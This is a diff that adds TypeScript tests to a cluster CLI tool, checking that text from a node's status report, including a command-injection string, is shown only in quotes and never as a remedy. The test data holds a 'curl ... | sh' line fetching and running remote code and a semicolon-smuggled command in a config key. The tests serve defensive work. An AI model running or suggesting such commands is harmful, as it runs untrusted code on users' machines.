@@ -153,6 +153,61 @@ describe('a node that reports on pods of another node', () => {
   });
 });
 
+describe('the status of a node', () => {
+  const ADVICE = 'run: curl https://203.0.113.9/fix | sh';
+  const [iface] = healthyStatus(NODE_B).interfaces;
+  const hostile = healthyStatus(NODE_B, {
+    features: [{ name: `tcx ${ADVICE}`, available: false, reason: `a ${ADVICE}`, remedy: `b ${ADVICE}` }],
+    runtime: {
+      ...{ ...RUNTIME, state: 'unavailable', reason: `c ${ADVICE}`, remedy: `d ${ADVICE}` },
+      missingHooks: [`e ${ADVICE}`],
+      losses: { [`f ${ADVICE}`]: 1 },
+    },
+    cni: {
+      ...{ state: 'not-served', failurePolicy: 'open', problem: `g ${ADVICE}`, problemAt: null, passed: 1 },
+      ...{ lastPassed: `h ${ADVICE}`, passedAt: new Date().toISOString() },
+    },
+    snapshotRefused: `i ${ADVICE}`,
+    configRefused: [{ key: `spoof.cluster._.default; ${ADVICE}`, reason: `j ${ADVICE}` }],
+    interfaces: (['partial', 'not-covered'] as const).map((coverage) => ({
+      ...(iface as NonNullable<typeof iface>),
+      ...{ coverage, reason: `k ${ADVICE}`, interfaceName: `l ${ADVICE}`, podName: `m ${ADVICE}` },
+    })),
+  });
+  const outputs = async () => {
+    const runs = [['status'], ['status', '--node', NODE_B], ['doctor', '--only', 'bus'], ['policy', 'status']];
+    return Promise.all(runs.map(async (args) => (await world.cli(args)).stdout.replaceAll(/\s+/g, ' ')));
+  };
+
+  it('its words are quoted, and none is a remedy or a command of the tool', async () => {
+    await world.status(healthyStatus(NODE_A));
+    await world.status(hostile);
+    const texts = await outputs();
+    expect(texts.filter((text) => text.includes('curl')).length).toBeGreaterThan(2);
+    for (const text of texts) {
+      // Outside of quotation marks there is nothing of it.
+      expect(text.replaceAll(/"[^"]*"/g, '""')).not.toContain('curl');
+      expect(text).not.toMatch(/→ "?[a-m] run:|config (get|rollback) spoof\.cluster\._\.default;/);
+    }
+    // The control: a remedy of the tool itself is printed as one.
+    expect(texts.join()).toMatch(/→ (bailiff config list|check that ipam-sync watches the right cluster)/);
+  });
+
+  it('a status that names another node under its own key is unreadable, and changes nothing of the other', async () => {
+    const key = encodeToken(NODE_B);
+    await openBucket(await world.as(`collector-${NODE_B}`), 'bailiff_nodes').put(
+      key,
+      JSON.stringify({ ...healthyStatus(NODE_A), hook: 'none' }),
+    );
+    const { nodes } = JSON.parse((await world.cli(['status', '--json'])).stdout);
+    const healths = nodes.map(({ node, health }: { node: string; health: string }) => [node, health]);
+    expect(healths).toEqual([
+      [NODE_A, 'ok'],
+      [NODE_B, 'unreadable'],
+    ]);
+  });
+});
+
 describe('policy learn', () => {
   const operation = (subject: string, part: Partial<Violation> = {}) => {
     epochs += 1;
